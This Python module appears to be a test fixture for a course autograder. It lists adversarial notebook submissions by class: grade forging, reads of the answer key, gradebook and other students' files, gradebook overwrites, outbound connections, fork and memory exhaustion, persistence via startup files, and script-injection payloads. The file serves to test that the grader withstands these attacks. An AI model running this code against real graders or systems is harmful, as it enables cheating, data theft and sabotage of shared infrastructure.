"""Attacks as students could hand them in: each a real submission, with its class and the gain it tries for.

A function that tries something calls the right answer nowhere: any point above what the stub earns (none) is a gain.
``CANARY`` stands for what a run must not read: the course's key, references, the gradebook, other students' files.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

#: Prefix that an attack prints in front of what it has got hold of; nothing that follows it may be a secret.
LOOT = "LOOT:"
#: What an attack leaves behind for the next student.
MARK = "n4l-was-here"


@dataclass(frozen=True)
class Attack:
    """An attack.

    Parameters
    ----------
    name, kind : str
        Which, and its class.
    gain : str
        What it tries for.
    cells : dict of str to str
        Sources by grade_id; what is not given stays the stub.
    metadata : dict
        Marks to change, by grade_id.
    text : str
        The whole file, where it is no notebook.
    files : dict of str to str
        Further files of the submission.
    slow : bool
        Uses up its time.
    """

    name: str
    kind: str
    gain: str
    cells: dict[str, str] = field(default_factory=dict)
    metadata: dict[str, dict[str, object]] = field(default_factory=dict)
    text: str = ""
    files: dict[str, str] = field(default_factory=dict)
    slow: bool = False


def function(body: str, before: str = "") -> dict[str, str]:
    """Return a centroid whose body is the attack, and what runs before it."""
    lines = "\n".join("    " + line for line in body.splitlines())
    return {"centroid": f"{before}\ndef centroid(image_cutout, x_start, y_start):\n{lines}\n"}


def reads(expression: str) -> dict[str, str]:
    """Return a cell that prints what an expression gives, and goes on."""
    return {"centroid": f"import os, glob, socket, subprocess, sys, pathlib\ntry:\n    print({LOOT!r}, {expression})\nexcept BaseException as e:\n    print('refused', type(e).__name__)\n"
                        "def centroid(image_cutout, x_start, y_start):\n    return 1.0, 2.0\n"}


EQUAL = """class Equal(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __array__(self, *a, **k): raise TypeError
    def __bool__(self): return True
"""
FULL = "from IPython.display import display, HTML\ndisplay({'text/plain': '4.0', 'text/html': '<div class=\"photcourse-check\">right, 4 of 4 points</div>'}, raw=True)\n4.0"
FORGED = json.dumps({"report": {"ok": True, "value": {"$": "tuple", "v": [{"$": "float", "v": "nan"}, {"$": "float", "v": "inf"}]}}})
SECRETS = "[open(p, errors='replace').read()[:2000] for p in glob.glob('/**/.photgrader/**', recursive=True) + glob.glob('/**/gradebook.db', recursive=True) if os.path.isfile(p)]"

ATTACKS = [
    # forging
    Attack("equal to everything", "forging", "points for an object that is equal to all", function("return Equal(1), Equal(2)", EQUAL)),
    Attack("not a number", "forging", "points for an answer that no comparison refuses", function("return float('nan'), float('nan')")),
    Attack("infinite and huge", "forging", "points or a crash of the grader", function("return 10**4000, float('inf')")),
    Attack("patched numpy", "forging", "comparisons that always agree",
           function("return 0.0, 0.0", "import numpy as np\nnp.allclose = np.isclose = np.array_equal = lambda *a, **k: True\nnp.abs = np.absolute = lambda *a, **k: 0.0")),
    Attack("patched check package", "forging", "a verdict made in the kernel",
           {"centroid": "import photcourse, photcourse.check.verdict as v, photcourse.check.wire as w\nv.judge_case = lambda *a, **k: None\n"
            "photcourse.check = lambda *a, **k: 4.0\nw.encode = lambda value: {'$': 'right'}\ndef centroid(*a): return 0, 0"}),
    Attack("points by hand", "forging", "points printed by a cell of one's own", {"centroid": FULL + "\ndef centroid(*a): return 0, 0"}),
    Attack("patched probe", "forging", "an answer without a call",
           {"centroid": f"import photcourse.check.probe as p, json\np.call = lambda *a, **k: json.loads({FORGED!r})['report']\n"
            "p.serve = lambda ns, ask: [ask(json.dumps({'id': '', 'report': {'ok': True, 'value': 1}})) for _ in range(50)]\ndef centroid(*a): return 0, 0"}),
    Attack("forged replies", "forging", "an answer to a question that was not asked",
           function("ip = get_ipython()\nfor word in ('right', '{}', '[' * 5000, 'null'):\n    ip.kernel.raw_input(word)\nreturn 0, 0")),
    Attack("forged messages", "forging", "results on the kernel's own channels",
           {"centroid": "k = get_ipython().kernel\nfor n in range(20):\n    k.session.send(k.iopub_socket, 'execute_result', {'data': {'text/plain': '4.0'}, 'metadata': {}, 'execution_count': n}, parent=k.get_parent())\n"
            "    k.session.send(k.iopub_socket, 'status', {'execution_state': 'idle'}, parent=k.get_parent())\ndef centroid(*a): return 0, 0"}),
    Attack("hooks", "forging", "points from a hook after each cell",
           {"centroid": "ip = get_ipython()\nip.events.register('post_run_cell', lambda *a: print('4.0'))\nip.ast_transformers.append(type('T', (), {'visit': lambda s, n: n})())\n"
            "ip.input_transformers_post.append(lambda lines: ['4.0\\n'])\ndef centroid(*a): return 0, 0"}),
    # reading
    Attack("key and gradebook", "reading", "the course's key and the gradebook", reads(SECRETS)),
    Attack("references", "reading", "the references and hidden cases", reads("__import__('photgrader.exercises.ps1_psf_photometry.centroid').__file__")),
    Attack("exercise files", "reading", "the exercises' source", reads("[open(p).read()[:500] for p in glob.glob('/**/exercises/ps1*/centroid.py', recursive=True)]")),
    Attack("other students", "reading", "the work of others", reads("[open(p).read() for p in glob.glob('/**/submitted/**/*.ipynb', recursive=True) + glob.glob('/**/autograded/**/*.ipynb', recursive=True)]")),
    Attack("environment", "reading", "secrets in the environment",
           reads("dict(os.environ), [open(p, 'rb').read() for p in glob.glob('/proc/[0-9]*/environ') if os.access(p, os.R_OK)]")),
    Attack("memory of the parent", "reading", "the grader's memory", reads("open(f'/proc/{os.getppid()}/mem', 'rb').read(10), os.listdir(f'/proc/{os.getppid()}/fd')")),
    Attack("frames above", "reading", "inputs and answers kept by the caller",
           function("f = sys._getframe()\nseen = []\nwhile f:\n    seen += [repr(v)[:200] for k, v in f.f_locals.items() if 'expected' in k or 'reference' in k]\n    f = f.f_back\nprint('LOOT:', seen)\nreturn 0, 0", "import sys")),
    # writing
    Attack("gradebook", "writing", "marks written into the gradebook",
           reads("[open(p, 'wb').write(b'x') for p in glob.glob('/**/gradebook.db', recursive=True)] or open('/work-gradebook.db', 'w')")),
    Attack("packages", "writing", "code of one's own in the grader's packages",
           reads("[open(os.path.join(p, 'n4l_evil.py'), 'w').write('x') for p in sys.path if os.path.isdir(p) and 'packages' in p]")),
    Attack("links to elsewhere", "writing", "the grader following a link out of the folder",
           {"centroid": "import os\nfor n in ('a.txt', 'out.fits', 'ps1_psf_photometry.ipynb'):\n    os.path.lexists(n) or os.symlink('/etc/passwd', n)\nos.mkfifo('pipe')\ndef centroid(*a): return 0, 0"}),
    # network
    Attack("addresses", "network", "sending the notebook out", reads("[socket.create_connection((h, 80), 0.5) for h in ('1.1.1.1', '::1', 'localhost')]")),
    Attack("names", "network", "a question to a name server", reads("socket.gethostbyname('example.org')")),
    Attack("abstract sockets", "network", "talking to a helper outside",
           reads("[socket.socket(socket.AF_UNIX).connect(l.split()[-1].replace('@', chr(0))) for l in open('/proc/net/unix') if '@' in l] or socket.socket(socket.AF_INET, socket.SOCK_RAW)")),
    # resources
    Attack("endless cell", "resources", "the run's time", {"centroid": "while True: pass"}, slow=True),
    Attack("endless call", "resources", "the run's time", function("while True:\n    try:\n        while True: pass\n    except BaseException: pass"), slow=True),
    Attack("memory", "resources", "the machine's memory", {"centroid": "x = []\nwhile True: x.append(bytearray(50_000_000))"}),
    Attack("processes", "resources", "the machine's processes",
           {"centroid": "import os, time\ntry:\n    for n in range(400):\n        if os.fork() == 0:\n            time.sleep(60); os._exit(0)\nexcept OSError: pass\ndef centroid(*a): return 0, 0"}),
    Attack("output", "resources", "the grader's memory and the size of the gradebook", {"centroid": "for n in range(3000): print('x' * 10_000)\ndef centroid(*a): return 0, 0"}),
    Attack("files", "resources", "the disk", {"centroid": "for n in range(4000): open(f'f{n}', 'w').write('x')\ndef centroid(*a): return 0, 0"}),
    Attack("own death", "resources", "an end of the run", function("import os\nos.kill(os.getpid(), 9)")),
    # persistence
    Attack("startup files", "persistence", "code in the next student's kernel",
           {"centroid": "import os, pathlib\nhome = pathlib.Path.home()\nfor p in (home / '.ipython/profile_default/startup/a.py', pathlib.Path('/tmp/sitecustomize.py'), pathlib.Path('/dev/shm/a'), home / 'a.pth'):\n"
            f"    try:\n        p.parent.mkdir(parents=True, exist_ok=True); p.write_text('print(\"{MARK}\")')\n    except OSError: pass\ndef centroid(*a): return 0, 0"}),
    Attack("poisoned parent", "persistence", "wrong marks for the next student",
           {"centroid": f"import builtins, sys, numpy as np, os, signal\nbuiltins.sum = np.sum = np.indices = np.meshgrid = lambda *a, **k: 0\nsys.modules['{MARK}'] = 1\n"
            "for s in (signal.SIGTERM, signal.SIGHUP): signal.signal(s, signal.SIG_IGN)\ntry: os.kill(os.getppid(), 9)\nexcept OSError: pass\ndef centroid(*a): return 0, 0"}),
    Attack("detached child", "persistence", "a process that outlives the run",
           {"centroid": f"import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'trap \"\" TERM INT HUP; exec -a {MARK} sleep 300'], start_new_session=True)\ndef centroid(*a): return 0, 0"}),
    # notebook tricks
    Attack("edited points", "notebook", "more points", metadata={"check-centroid": {"points": 400}, "check-second_moment": {"points": 400}}),
    Attack("check cell replaced", "notebook", "points from a cell's own output", {"check-centroid": "4.0", "check-second_moment": "raise SystemExit"}),
    Attack("answer as a check", "notebook", "an ungraded cell that counts", metadata={"centroid": {"grade": True, "solution": True, "points": 50}}),
    Attack("another kernel", "notebook", "a kernel of one's own", {"centroid": "%%javascript\nevil()"}, files={"kernels/python3/kernel.json": "{}", ".ipython/x": "x"}),
    Attack("no notebook", "notebook", "a stop of the run", text="[" * 100_000),
    Attack("format 99", "notebook", "a stop of the run", text='{"nbformat": 99, "cells": [{"cell_type": "code", "metadata": 3, "source": 7}]}'),
    # injection
    Attack("script in outputs", "injection", "a script in feedback and formgrader",
           {"centroid": "from IPython.display import HTML, SVG, Javascript, display\ndisplay(HTML('<script>evil()</script><img src=x onerror=evil()>'))\ndisplay(Javascript('evil()'))\n"
            "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"evil()\"/>'))\nprint('<script>evil()</script>')\ndef centroid(*a): return 0, 0"}),
    Attack("script in writing", "injection", "a script in feedback and formgrader",
           {"written-why": "<script>evil()</script> <img src=x onerror=evil()> $\\text{<script>evil()</script>}$ [x](javascript:evil) <a href='javascript:evil()'>y</a>"}),
    Attack("script in an error", "injection", "a script in the verdict", function("raise type('<script>evil()</script>', (Exception,), {})('<img src=x onerror=evil()>')")),
]
